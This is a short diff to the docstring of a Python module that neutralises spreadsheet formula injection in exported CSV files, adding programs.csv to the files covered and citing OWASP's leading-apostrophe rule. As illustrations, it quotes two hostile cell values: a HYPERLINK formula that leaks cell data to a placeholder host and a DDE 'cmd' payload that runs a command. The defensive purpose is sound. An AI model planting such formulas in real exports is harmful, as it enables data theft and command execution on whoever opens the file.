@@ -1,8 +1,9 @@
 """Text that a spreadsheet would run as a formula, made inert in the files it opens.
 
-A cell of indicators.csv or findings.csv holds text from a document (an indicator's name,
-a target as written), and a document can be hostile: ``=HYPERLINK("http://x/?"&A1)`` or
-``=cmd|' /C calc'!A0`` is a live formula once Excel opens the CSV. OWASP's rule: a cell
+A cell of indicators.csv, findings.csv or programs.csv holds text from a document (an
+indicator's name, a target as written), and a document can be hostile:
+``=HYPERLINK("http://x/?"&A1)`` or ``=cmd|' /C calc'!A0`` is a live formula once Excel
+opens the CSV. OWASP's rule: a cell
 that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (ASVS adds NUL)
 gets a ``'`` in front, which a spreadsheet shows as text and does not evaluate.
 
